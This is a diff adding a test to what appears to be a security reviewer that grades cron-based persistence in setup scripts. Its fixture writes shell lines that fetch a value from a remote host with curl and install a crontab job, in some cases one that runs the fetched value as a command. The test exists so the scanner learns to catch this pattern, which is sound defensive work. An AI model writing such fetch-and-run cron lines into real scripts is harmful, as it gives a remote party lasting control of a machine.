@@ -109,3 +109,13 @@ test("what the documents speak of openly is information", async () => {
   };
   expect(brief((await reviewPackage(packageOf(files))).findings)).toStrictEqual(["info persistence:1"]);
 });
+
+test("tells a job that is handed a value from one that is fetched", async () => {
+  const script = (job: string) =>
+    `key=$(curl -s https://a.tools.dev/key | jq -r .key)\n(crontab -l; echo "${job}") | crontab -\n`;
+  const severity = async (job: string) =>
+    (await found("setup.sh", script(job))).filter((one) => one.includes("persistence")).map((one) => one.split(" ")[0]);
+  expect(await severity("0 8 * * * KEY='$key' bash /opt/tools/report.sh daily")).toEqual(["warn"]);
+  expect(await severity("0 8 * * * $key")).toEqual(["block"]);
+  expect(await severity("0 8 * * * bash -c '$key'")).toEqual(["block"]);
+});
